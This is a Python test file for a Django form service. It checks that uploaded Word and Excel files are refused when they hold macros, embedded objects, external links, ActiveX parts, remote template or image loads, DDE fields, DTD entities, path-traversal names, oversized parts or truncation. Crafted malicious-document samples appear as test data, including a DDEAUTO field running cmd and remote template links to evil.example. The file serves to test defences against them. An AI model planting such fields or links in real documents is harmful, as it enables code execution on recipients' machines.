"""Word and Excel files are taken where a form allows them, and only those that run and load nothing when opened."""

import io
import zipfile
from collections.abc import Callable, Mapping

import docx
import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from tests.cast.formbuilder import begun, question, small
from todoke.accounts.actors import Guest
from todoke.file_validation.content_types import NotAccepted, validate_content
from todoke.file_validation.office_documents import EXCEL, WORD, UnsafeOfficeDocument, office_type


def word(text: str = "計画書") -> bytes:
    document, out = docx.Document(), io.BytesIO()
    document.add_paragraph(text)
    document.save(out)
    return out.getvalue()


def excel() -> bytes:
    book, out = openpyxl.Workbook(), io.BytesIO()
    book.worksheets[0].append(["品名", 1])
    book.save(out)
    return out.getvalue()


def changed(
    content: bytes, name: str = "", old: bytes = b"", new: bytes = b"", added: Mapping[str, bytes] | None = None
) -> bytes:
    """The archive with a text of one part replaced, and parts added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as before, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as after:
        for entry in before.namelist():
            part = before.read(entry)
            after.writestr(entry, part.replace(old, new, 1) if entry == name else part)
        for path, part in (added or {}).items():
            after.writestr(path, part)
    return out.getvalue()


def outside(kind: str, target: str) -> bytes:
    link = f'<Relationship Id="x9" Type="http://x/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
    return changed(word(), "word/_rels/document.xml.rels", b"</Relationships>", link.encode())


def test_plain_word_and_excel_files_are_known_by_their_content() -> None:
    assert (office_type(word()), office_type(excel())) == (WORD, EXCEL)
    assert validate_content(word()) == WORD
    assert office_type(b"%PDF-1.4") == ""
    assert office_type(changed(b"PK\x05\x06" + bytes(18))) == ""


def test_a_link_to_a_page_is_harmless() -> None:
    assert office_type(outside("hyperlink", "https://www.example.lg.jp/")) == WORD


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (lambda: changed(word(), added={"word/vbaProject.bin": b"x"}), "マクロ"),
        (lambda: changed(word(), "[Content_Types].xml", b"document.main+xml", b"document.macroEnabled.main+xml"),
         "マクロ"),
        (lambda: changed(word(), added={"word/embeddings/oleObject1.bin": b"x"}), "埋め込まれたファイル"),
        (lambda: changed(excel(), added={"xl/externalLinks/externalLink1.xml": b"<x/>"}), "参照"),
        (lambda: changed(word(), added={"word/activeX/activeX1.xml": b"<x/>"}), "動く部品"),
        (lambda: outside("attachedTemplate", "https://evil.example/t.dotm"), "読み込む仕掛け"),
        (lambda: outside("image", "https://evil.example/x.png"), "読み込む仕掛け"),
        (lambda: outside("hyperlink", "file://evil.example/share"), "読み込む仕掛け"),
        (lambda: changed(word("計画書"), "word/document.xml", "計画書".encode(),
                 b'</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\cmd "/c calc"</w:instrText></w:r><w:r><w:t>'),
         "読み込む仕掛け"),
        (lambda: changed(word(), "word/document.xml", b"<w:document", b"<!DOCTYPE x [<!ENTITY a 'b'>]><w:document"),
         "書き方"),
        (lambda: changed(word(), added={"../evil.xml": b"<x/>"}), "名前"),
        (lambda: changed(word(), added={"word/big.bin": bytes(30_000_000)}), "大きすぎ"),
        (lambda: word()[:2000], "壊れている"),
    ],
)  # fmt: skip
def test_what_runs_loads_or_hides_something_is_refused_with_what_it_is(make: Callable[[], bytes], said: str) -> None:
    content = make()
    with pytest.raises(UnsafeOfficeDocument, match=said):
        office_type(content)
    with pytest.raises(NotAccepted, match="PDFに保存し直すか"):
        validate_content(content)


@pytest.mark.django_db
def test_a_form_takes_them_only_where_it_says_so() -> None:
    open_form = begun(small(question("plan", "file", accepts=["word", "pdf"])))
    made = open_form.attach("plan", SimpleUploadedFile("計画書.pdf", word()), by=Guest())
    assert (made.media_type, made.name, made.can_be_shown) == (WORD, "計画書.docx", False)
    with pytest.raises(NotAccepted, match="Word"):
        open_form.attach("plan", SimpleUploadedFile("表.xlsx", excel()), by=Guest())


@pytest.mark.django_db
def test_a_form_that_says_nothing_takes_photographs_and_pdf_alone() -> None:
    usual = begun(small(question("paper", "file")))
    with pytest.raises(NotAccepted, match=r"写真\(JPEG・PNG・HEIC・WebP\)かPDFを選んで"):
        usual.attach("paper", SimpleUploadedFile("計画書.docx", word()), by=Guest())
